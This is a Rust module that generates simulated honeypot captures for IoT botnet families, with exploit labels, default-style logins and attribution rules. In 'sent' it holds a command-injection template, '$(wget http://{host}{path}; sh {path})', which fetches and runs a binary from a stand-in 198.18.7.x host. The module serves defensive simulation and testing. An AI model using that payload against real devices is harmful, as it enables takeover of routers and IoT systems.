//! What sources send to the ports that they knock at: logins, exploits that load a program, and what nobody knows.

use honeyxdp_archive::{Attribution, CaptureMode, Classification, FlowRow, MOST_PAYLOAD, PayloadRow};

use crate::{
    lists::COMMON,
    population::Population,
    random::{choose, draw, low},
};

/// Of so many rows of one source and day the first ones can have a payload: there are no more of them than sources.
pub(crate) const ROWS: u64 = 2;

/// What a rule says, its id and its letter.
type Rule = (&'static str, &'static str, char);

const QBOT: Rule = ("qbot", "qbot-payload/1", 'B');
const MIRAI: Rule = ("mirai", "mirai-payload/1", 'A');
const HAJIME: Rule = ("hajime", "hajime-payload/1", 'A');
const MOZI: Rule = ("mozi", "mozi-payload/1", 'B');
/// Of another kind than the figures know.
const TSUNAMI: Rule = ("tsunami", "tsunami-payload/1", 'C');
/// The mark of a source's SYNs.
const MIRAI_MARK: Rule = ("mirai", "mirai/1", 'A');
const HAJIME_MARK: Rule = ("hajime", "hajime/1", 'B');

fn label((name, rule, confidence): Rule) -> Classification {
    Classification { name: name.into(), rule_id: rule.into(), confidence }
}

/// What a source sent after the SYNs of a row, if anything was captured of it. `day` is the begin of the day, in milliseconds
/// since 1970.
pub(crate) fn sent(population: &Population, row: &FlowRow, day: i64, drawn: u64) -> Option<PayloadRow> {
    let drawn = |what: u64| draw(drawn, 8, what);
    let of_sixteen = match population.name {
        "qbot" => 12,
        "mirai" | "hajime" => 4,
        _ => 3,
    };
    if drawn(0) % 16 >= of_sixteen {
        return None;
    }
    let exploit = exploit(row.dst_port);
    let url = exploit.map(|_| url(drawn(1)));
    let (username, password) = if matches!(row.dst_port, 23 | 2323) { login(drawn(2)) } else { (None, None) };
    let text = match (&url, exploit) {
        (Some((host, path, _)), Some((name, ..))) => {
            let path = path.as_deref().unwrap_or("");
            // Longer than what is kept.
            format!("POST /{name} HTTP/1.1\r\n\r\n$(wget http://{host}{path}; sh {path}){}", " ".repeat(MOST_PAYLOAD))
        }
        _ if username.is_some() => String::new(),
        _ => "GET / HTTP/1.0\r\n\r\n".to_owned(),
    };
    let (url_host, url_path, url_file) = url.map_or((None, None, None), |(host, path, file)| (Some(host), path, file));
    Some(PayloadRow {
        // The account of the day has it.
        interval_start: day,
        time: row.first_seen,
        src: row.src,
        src_port: 1024 + row.ip_id % 60_000,
        dst_port: row.dst_port,
        protocol: honeyxdp_archive::TCP,
        capture_mode: choose(
            &[(CaptureMode::Observed, 20), (CaptureMode::Answered, 10), (CaptureMode::Imported, 2)],
            drawn(3),
        ),
        exploit: exploit.map(label),
        family: family(population, drawn(4)),
        url_host,
        url_path,
        url_file,
        username,
        password,
        length: u32::try_from(text.len()).unwrap_or(u32::MAX),
        payload: text.into_bytes(),
        country: row.country,
        asn: row.asn,
    })
}

fn exploit(port: u16) -> Option<Rule> {
    match port {
        37215 => Some(("CVE-2017-17215", "cve-2017-17215/1", 'A')),
        52869 => Some(("CVE-2014-8361", "cve-2014-8361/1", 'A')),
        60001 => Some(("EDB-41471", "edb-41471/1", 'B')),
        5555 => Some(("adb", "adb/1", 'A')),
        _ => None,
    }
}

/// Whom a payload gives away. A source can be two of them on one day.
fn family(population: &Population, drawn: u64) -> Attribution {
    let by_payload = |rule| Attribution::ByPayload(label(rule));
    match (population.name, drawn % 32) {
        ("qbot", 0..4) => Attribution::Unattributed,
        ("qbot", _) => by_payload(QBOT),
        ("mirai", 0..14) => by_payload(MIRAI),
        ("mirai", 14..16) => by_payload(QBOT),
        ("mirai", 16) => by_payload(MOZI),
        ("mirai", _) => Attribution::ByFingerprint(label(MIRAI_MARK)),
        ("hajime", 0..16) => by_payload(HAJIME),
        ("hajime", 16..18) => by_payload(MIRAI),
        ("hajime", _) => Attribution::ByFingerprint(label(HAJIME_MARK)),
        (_, 0..8) => by_payload(MOZI),
        (_, 8..12) => by_payload(TSUNAMI),
        _ => Attribution::Unattributed,
    }
}

/// Host, path and file, of which there are more than a report names.
fn url(drawn: u64) -> (String, Option<String>, Option<String>) {
    let host = format!("198.18.7.{}", 1 + drawn % 40);
    match choose(&[("mips", 9), ("mpsl", 5), ("arm7", 3), ("x86", 2), ("/", 1), ("", 1)], drawn >> 16) {
        "" => (host, None, None),
        "/" => (host, Some("/".to_owned()), None),
        file => (host, Some(format!("/bins/{file}")), Some(file.to_owned())),
    }
}

/// User and password. Some have an empty password, and some went before they gave one.
fn login(drawn: u64) -> (Option<String>, Option<String>) {
    let number = low(drawn >> 8) % 500;
    let (user, password) = match drawn % 32 {
        0 => return (Some("admin".to_owned()), None),
        1..3 => ("root".to_owned(), String::new()),
        3..8 => (format!("user{number}"), format!("pass{number}")),
        // The first ones most often.
        place => {
            let pair = COMMON[usize::try_from((drawn >> 8) % (place - 7)).unwrap_or(0) % COMMON.len()];
            pair.split_once(':').map(|(user, password)| (user.to_owned(), password.to_owned())).unwrap_or_default()
        }
    };
    (Some(user), Some(password))
}
